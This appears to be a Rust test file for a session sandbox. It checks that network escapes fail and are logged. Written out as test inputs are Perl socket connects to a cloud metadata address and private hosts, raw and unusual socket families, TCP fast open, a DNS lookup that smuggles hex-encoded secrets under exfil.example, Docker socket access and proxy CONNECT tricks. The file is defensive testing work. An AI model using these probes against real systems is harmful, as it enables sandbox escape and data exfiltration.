//! Every way out of a session, tried for real; whether anything arrived is looked at on the other side.

use crate::place::{Place, stdout};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

/// Connects by hand: family, type, protocol, address, port; says `connected` if it could send, and what came back.
const CONNECT: &str = r#"use Socket; my ($type, $protocol, $address, $port) = @ARGV;
socket(S, AF_INET, $type, $protocol) or do { print "no socket: $!\n"; exit };
$SIG{ALRM} = sub { print "nothing\n"; exit }; alarm 3;
connect(S, pack_sockaddr_in($port, inet_aton($address))) or do { print "refused: $!\n"; exit };
send(S, "leak", 0); my $got; sysread(S, $got, 64); print defined $got && length $got ? "answered\n" : "nothing\n";"#;

fn connect(kind: u8, protocol: u16, address: &str, port: u16) -> String {
    format!("perl -e '{CONNECT}' {kind} {protocol} {address} {port}; ")
}

struct Host {
    tcp: TcpListener,
    udp: UdpSocket,
}

impl Host {
    /// Services on every address of the host.
    fn new() -> Self {
        let (tcp, udp) = (TcpListener::bind("0.0.0.0:0").unwrap(), UdpSocket::bind("0.0.0.0:0").unwrap());
        tcp.set_nonblocking(true).unwrap();
        udp.set_nonblocking(true).unwrap();
        Self { tcp, udp }
    }

    fn ports(&self) -> (u16, u16) {
        (self.tcp.local_addr().unwrap().port(), self.udp.local_addr().unwrap().port())
    }

    fn assert_untouched(&self) {
        assert!(self.tcp.accept().is_err());
        assert!(self.udp.recv(&mut [0; 8]).is_err());
    }
}

#[test]
fn no_connection_reaches_the_host_and_each_is_on_record() {
    let (place, host) = (Place::new(), Host::new());
    let (tcp, udp) = host.ports();
    let mut script = String::new();
    for address in ["127.0.0.1", "169.254.169.254", "203.0.113.7", "10.1.2.3"] {
        script += &connect(1, 0, address, tcp);
        script += &connect(2, 0, address, udp);
    }
    let output = place.run(&["--upstream", "echo"], &script);
    assert!(!stdout(&output).contains("answered"), "{}", stdout(&output));
    assert_eq!(stdout(&output).lines().count(), 8);
    host.assert_untouched();
    let hosts: Vec<_> = place.acts_of("connection_refused").iter().map(|act| act["host"].as_str().unwrap().to_owned()).collect();
    for address in ["169.254.169.254", "203.0.113.7", "10.1.2.3"] {
        assert!(hosts.iter().any(|host| host == address), "{address} in {hosts:?}");
    }
    assert!(place.verifies());
}

#[test]
fn mptcp_raw_packet_and_other_families_have_no_socket() {
    let (place, host) = (Place::new(), Host::new());
    let (tcp, _) = host.ports();
    // MPTCP 262, SCTP 132, ICMP 1 (datagram and raw); families by number: packet 17, vsock 40, AF_ALG 38, netlink 16.
    let mut script = connect(1, 262, "127.0.0.1", tcp) + &connect(1, 132, "127.0.0.1", tcp);
    script += &connect(2, 1, "127.0.0.1", tcp);
    script += &connect(3, 1, "127.0.0.1", tcp);
    for (family, kind) in [(17, 3), (40, 1), (38, 5), (16, 3)] {
        script += &format!("perl -e 'print socket(S, {family}, {kind}, 0) ? \"a socket\\n\" : \"no socket\\n\"'; ");
    }
    let output = place.run(&["--upstream", "echo"], &script);
    let said = stdout(&output);
    assert_eq!(said.lines().count(), 8);
    assert!(said.lines().all(|line| line.starts_with("no socket")), "{said}");
    host.assert_untouched();
    assert!(!place.acts_of("system_call_refused").is_empty());
}

#[test]
fn tcp_fast_open_carries_nothing_past_the_door() {
    let (place, host) = (Place::new(), Host::new());
    let (tcp, _) = host.ports();
    // MSG_FASTOPEN (0x20000000) sends data with the first packet of a connection.
    let fast = |address: &str| {
        format!(
            "perl -e 'use Socket; socket(S, AF_INET, 1, 0); my $sent = send(S, \"leak\", 0x20000000, pack_sockaddr_in({tcp}, inet_aton(\"{address}\"))); my $got; sysread(S, $got, 9) if $sent; print defined $got && length $got ? \"answered\\n\" : \"nothing\\n\"'; "
        )
    };
    let output = place.run(&["--upstream", "echo"], &(fast("127.0.0.1") + &fast("203.0.113.9")));
    assert_eq!(stdout(&output), "nothing\nnothing\n");
    host.assert_untouched();
}

#[test]
fn names_are_not_resolved_and_carry_no_data() {
    let place = Place::new();
    let script = "getent hosts exfil.example; getent hosts 73656372657473656372657473656372.t.exfil.example; echo done";
    assert_eq!(stdout(&place.run(&["--upstream", "echo"], script)), "done\n");
    let refused = place.acts_of("name_refused");
    assert!(refused.iter().any(|act| act["name"].as_str().unwrap().ends_with("exfil.example")), "{refused:?}");
    // What the labels carried is not in the record either.
    assert!(!format!("{refused:?}").contains("73656372657473656372657473656372"));
}

#[test]
fn unix_sockets_of_the_host_are_out_of_reach() {
    let place = Place::new();
    let name = format!("bailiwick-it-{}", std::process::id());
    let abstract_one = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    let path = place.path("elsewhere").join("engine.sock");
    let named = UnixListener::bind(&path).unwrap();
    // A link in the workspace that leads to it.
    std::os::unix::fs::symlink(&path, place.path("workspace").join("link.sock")).unwrap();
    let script = format!(
        r#"for address in "\0{name}" "{}" link.sock /var/run/docker.sock; do perl -e 'use Socket; my $a = $ARGV[0]; $a =~ s/^\\0/\0/; socket(S, AF_UNIX, 1, 0); print connect(S, pack_sockaddr_un($a)) ? "connected\n" : "refused\n"' "$address"; done"#,
        path.display()
    );
    let output = place.run(&["--upstream", "echo"], &script);
    assert_eq!(stdout(&output), "refused\n".repeat(4));
    for listener in [abstract_one, named] {
        listener.set_nonblocking(true).unwrap();
        assert!(listener.accept().is_err());
    }
}

#[test]
fn the_proxy_port_leads_nowhere_in_every_spelling() {
    let (place, host) = (Place::new(), Host::new());
    let (tcp, _) = host.ports();
    let ask = |request: &str| {
        format!(
            "perl -e 'use Socket; socket(S, AF_INET, 1, 0); connect(S, pack_sockaddr_in(4181, inet_aton(\"127.0.0.1\"))); syswrite(S, \"{request}\"); my $got; sysread(S, $got, 200); print substr($got, 9, 3), \"\\n\"'; "
        )
    };
    let mut script = String::new();
    for target in
        [format!("127.0.0.1:{tcp}"), format!("2130706433:{tcp}"), format!("[::ffff:127.0.0.1]:{tcp}"), "api.openai.com:443".to_owned()]
    {
        let target = target.replace('@', "");
        script += &ask(&format!("CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n"));
    }
    script += &ask(&format!("GET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{tcp}\\r\\n\\r\\n"));
    script += &ask(&format!("CONNECT good.example:443 HTTP/1.1\\r\\nHost: 127.0.0.1:{tcp}\\r\\n\\r\\n"));
    let output = place.run(&["--upstream", "echo"], &script);
    let answers = stdout(&output);
    assert_eq!(answers.lines().count(), 6);
    assert!(answers.lines().all(|status| status == "403" || status == "400"), "{answers}");
    host.assert_untouched();
}

#[test]
fn the_door_and_the_gateway_cannot_be_used_from_outside() {
    let place = Place::new();
    let mut child = place.session(&["--upstream", "echo"], "echo up; sleep 3").stdout(std::process::Stdio::piped()).spawn().unwrap();
    let mut first = [0; 3];
    std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut first).unwrap();
    for port in [4180_u16, 4181, 4182] {
        let reached = std::net::TcpStream::connect(("127.0.0.1", port));
        assert!(reached.is_err(), "{port} answers on the host's loopback");
    }
    assert!(child.wait().unwrap().success());
}
